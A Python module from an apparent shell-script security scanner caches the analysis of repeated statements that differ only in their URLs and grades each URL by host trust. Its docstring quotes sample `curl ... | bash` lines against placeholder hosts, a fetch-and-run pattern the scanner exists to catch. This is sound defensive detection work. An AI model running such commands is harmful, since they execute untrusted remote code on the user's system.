"""Statements of one shape: the same text but for the URLs they fetch.

A flood of `curl -fsSL https://x1.example/a | bash`, `curl -fsSL https://x2.example/a | bash`, …
has no two lines alike, so `StatementMemo` would analyse every one, though they differ only in
a URL and a URL matters only through its grade (`HostPolicy`). A `Shape` is what analysing the
first of them did, each hit graded from the statement's URLs left open: a later statement of the
same shape (the text around its URLs is the same, its tree the same type and size) replays it,
each open hit graded from its own URLs. A replay only counts hits whose rules are listed in full
already: a hit still to be listed, with its evidence and message, sends the statement to the
full analysis.

Only what makes that sound gets a shape (`ShapeMemo.learn`): each URL (a "slot": a whole token of
plain characters after `http://`, `https://` or `ftp://`: letters, digits and `._/?=%+:-`) is one
the analysis fetched and graded,
so its text was read only to grade it; the slots differ from each other; the text around them
holds no variable (`$name`, `${…}`), backtick, backslash or `:` (`AROUND`: no variable is read and
no URL is built out of it, so every graded URL is one of the slots); and the analysis changed no
scan state (`Recording.effects`; the caller also requires that nothing was downloaded before or
during it).
"""

from __future__ import annotations

import re
import string
from collections.abc import Callable, Hashable
from dataclasses import dataclass
from typing import Protocol

from tree_sitter import Node

from skillscan.analyzers.host_policy import Trust
from skillscan.analyzers.treesitter.scan_hits import Hits, Recording
from skillscan.analyzers.treesitter.shell_text import RULE_BY_TRUST

MAX_SHAPES = 10_000  # shapes remembered per text
MAX_TEXT = 4096  # bytes of a statement that can have a shape
# what the text around the slots must not hold: a shell's `$(…)` runs commands, its other `$` read
# variables
AROUND = re.compile(rb"\$(?!\()|[`\\:]")
# A slot's characters after the scheme: host, port, path and query. None is special to a shell or
# PowerShell word, nor ends one (bash and PowerShell parse every slot of a shape into the same
# nodes), nor appears in `AROUND`; `&`, `,`, `#`, `@`, `~`, `!`, quotes and brackets are left out.
SLOT_CHARS = string.ascii_letters + string.digits + "._/?=%+:-"  # what a URL slot holds after `://`
_SLOT_CHARS = re.escape(SLOT_CHARS).encode()
_SLOT_BODY = rb"(?:https?|ftp)://[A-Za-z0-9][" + _SLOT_CHARS + rb"]{0,199}"
SLOT = re.compile(rb"(?<![" + _SLOT_CHARS + rb"])(" + _SLOT_BODY + rb")(?![" + _SLOT_CHARS + rb"])")


class Facts(Protocol):
    """What the analysis of a shape's first statement read of its text besides its tree and URLs
    (`ShapeMemo.facts`)."""

    def hold(self, found: list[tuple[bytes, ...]]) -> int:
        """How many of the statements whose slots are `found` (in order) read the same: the
        first that reads otherwise, or their number."""
        ...


# `ShapeMemo.facts`: (the first statement, its text, what its analysis read, the text around its
# slots, the slots) -> the facts of the shape, or None when it cannot have one
FactsOf = Callable[[Node, bytes, Hashable, tuple[bytes, ...], list[bytes]], Facts | None]


@dataclass(frozen=True, slots=True)
class Shape:
    """What analysing a statement did: per hit its rule, or None and the slots it was graded
    from, and its line relative to the statement's; the statement's tree type and size; the
    nodes the analysis walked (a replay charges them to the scan's budget as a walk would); the
    texts of its shape, their slots as groups. The tree type is its grammar symbol (`kind_id`: an
    int, where `type` makes a string at each read)."""

    hits: tuple[tuple[str | None, int, tuple[int, ...]], ...]
    kind: int
    size: int
    cost: int
    pattern: re.Pattern[bytes]
    facts: Facts | None = None  # what the analysis read of the text besides its tree (`ShapeMemo.facts`)


def cut(text: bytes) -> tuple[tuple[bytes, ...], list[bytes]] | None:
    """(the text around the slots, the slots), or None when the text has no slot or is longer than
    a flooded statement (a long one is analysed once anyway: not worth cutting)."""
    if len(text) > MAX_TEXT:
        return None
    pieces = SLOT.split(text)
    if len(pieces) == 1:
        return None
    return tuple(pieces[0::2]), pieces[1::2]


class ShapeMemo:
    """Shapes of one scanned text. `around`: what the text around the slots must not hold (at least
    what `AROUND` finds). `facts`, for an analysis that matches patterns on the statement's text
    (where a URL could hold a word it looks for): given what the analysis of the first statement
    of the shape read of it (`learn`), which later statements of the shape read the same
    (`Facts.hold`, from their slots); only those replay the shape."""

    def __init__(
        self,
        hits: Hits,
        trusts: Callable[[list[str]], list[Trust | None]],
        around: re.Pattern[bytes] = AROUND,
        facts: FactsOf | None = None,
    ) -> None:
        self._hits = hits
        self._trusts = trusts  # HostPolicy.trusts: the trust of each URL
        self._around = around
        self._facts = facts
        self._shapes: dict[object, Shape] = {}

    def learn(
        self,
        key: object,
        text: bytes,
        around: tuple[bytes, ...],
        slots: list[bytes],
        rec: Recording | None,
        node: Node,
        cost: int = 0,
        reads: Hashable = None,
    ) -> None:
        """Remember `rec`, the analysis of `node` whose `text` is `cut` into `around` and `slots`,
        under `key` (the text around the slots plus any scan state the analysis read), if it is
        sound; `reads`: what the analysis read of the statement's text (`facts`)."""
        if rec is None or rec.effects or node.has_error or len(self._shapes) >= MAX_SHAPES:
            return
        if any(self._around.search(piece) for piece in around):
            return
        facts = self._facts(node, text, reads, around, slots) if self._facts else None
        if self._facts is not None and facts is None:
            return
        index = {slot.decode(): i for i, slot in enumerate(slots)}  # slots alike: some index is lost
        graded: set[int] = set()
        hits: list[tuple[str | None, int, tuple[int, ...]]] = []
        for n, (rule, rel, _ev, _message) in enumerate(rec.hits):
            urls = rec.graded.get(n)
            if urls is None:
                hits.append((rule, rel, ()))
                continue
            if not all(u in index for u in urls):
                return
            from_slots = tuple(index[u] for u in urls)
            graded.update(from_slots)
            hits.append((None, rel, from_slots))
        if len(graded) == len(slots):  # every slot is read only as a URL to grade, none repeats
            # each text around a slot starts and ends with a character no slot has (or is the
            # text's first or last): a text of this shape is cut into the same slots
            pattern = re.compile((b"(" + _SLOT_BODY + b")").join(map(re.escape, around)))
            size = node.descendant_count
            self._shapes[key] = Shape(tuple(hits), node.kind_id, size, cost, pattern, facts)

    def replay(
        self,
        key: object,
        nodes: list[Node],
        start: int,
        code: bytes,
        base: int,
        line_offset: int = 0,
        budget: int | None = None,
    ) -> tuple[int, int]:
        """Count the hits of the statements `nodes[start]`, `nodes[start + 1]`, … as the shape
        remembered under `key` says, while there is one, their texts (in `code`, which starts at
        byte `base`) and trees are of that shape, `budget` covers their cost and every hit's rule
        is listed in full: (statements replayed, nodes charged). Line numbers are the nodes' rows
        plus 1 plus `line_offset`; no `budget`: no limit."""
        shape = self._shapes.get(key)
        if shape is None:
            return 0, 0
        hits = self._hits
        # counting changes no rule's listing: which rules are full is read once
        full = {rule for rule in RULE_BY_TRUST.values() if hits.full(rule)}
        if any(rule is not None and rule not in full for rule, _rel, _slots in shape.hits):
            return 0, 0
        end = len(nodes) if budget is None else min(len(nodes), start + budget // max(shape.cost, 1))
        counted: dict[str, list[int]] = {}
        i, step = start, 8  # in growing steps: a run that stops at once costs little
        while i < end:
            done = self._replay_some(shape, nodes, i, min(end, i + step), code, base, full, counted)
            i += done
            if done < step:
                break
            step = min(step * 2, 4096)
        first = line_offset + 1
        for rule, rows in counted.items():
            hits.count(rule, [first + row for row in rows])
        return i - start, (i - start) * shape.cost

    def _replay_some(
        self,
        shape: Shape,
        nodes: list[Node],
        start: int,
        end: int,
        code: bytes,
        base: int,
        full: set[str],
        counted: dict[str, list[int]],
    ) -> int:
        """`replay` of `nodes[start:end]`: adds the rows of their hits to `counted` (by rule); how
        many it replayed."""
        pattern, kind, size = shape.pattern, shape.kind, shape.size
        found: list[tuple[bytes, ...]] = []
        rows: list[int] = []
        for i in range(start, end):
            node = nodes[i]
            m = pattern.fullmatch(code, node.start_byte - base, node.end_byte - base)
            if m is None or node.kind_id != kind or node.descendant_count != size or node.has_error:
                break
            found.append(m.groups())
            rows.append(node.start_point[0])
        if shape.facts is not None and found:
            del found[shape.facts.hold(found) :]
        replayed = len(found)
        rules: list[list[str] | str] = []
        for rule, _rel, from_slots in shape.hits:
            if rule is not None:
                rules.append(rule)
                continue
            graded = [RULE_BY_TRUST[t] for t in self._worst(found, from_slots)]
            if not full.issuperset(graded):  # a rule still to be listed: the statement is analysed
                replayed = min(replayed, next(n for n, r in enumerate(graded) if r not in full))
            rules.append(graded)
        for (_rule, rel, _slots), rule_or_rules in zip(shape.hits, rules, strict=True):
            lines = rows[:replayed] if rel == 0 else [row + rel for row in rows[:replayed]]
            if isinstance(rule_or_rules, str):
                counted.setdefault(rule_or_rules, []).extend(lines)
                continue
            graded = rule_or_rules[:replayed]
            for rule in set(graded):  # in bulk per rule: a flood grades most URLs alike
                counted.setdefault(rule, []).extend(
                    lines
                    if len(graded) == graded.count(rule)
                    else [n for n, r in zip(lines, graded, strict=True) if r == rule]
                )
        return replayed

    def _worst(self, found: list[tuple[bytes, ...]], from_slots: tuple[int, ...]) -> list[Trust]:
        """Per statement, the trust its hit is graded by: the least trusted of its URLs in
        `from_slots` (`HostPolicy.worst`), UNDECLARED when none is a URL (`rule_for(None)`)."""
        if not found:
            return []
        if len(from_slots) == 1:  # decoded at once (a slot holds no newline)
            j = from_slots[0]
            trusts = self._trusts(b"\n".join([slots[j] for slots in found]).decode().split("\n"))
            return [Trust.UNDECLARED if t is None else t for t in trusts]
        worst: list[Trust | None] = [None] * len(found)
        for j in from_slots:
            for n, trust in enumerate(self._trusts([slots[j].decode() for slots in found])):
                if trust is not None and (worst[n] is None or trust > worst[n]):  # type: ignore[operator]
                    worst[n] = trust
        return [Trust.UNDECLARED if t is None else t for t in worst]
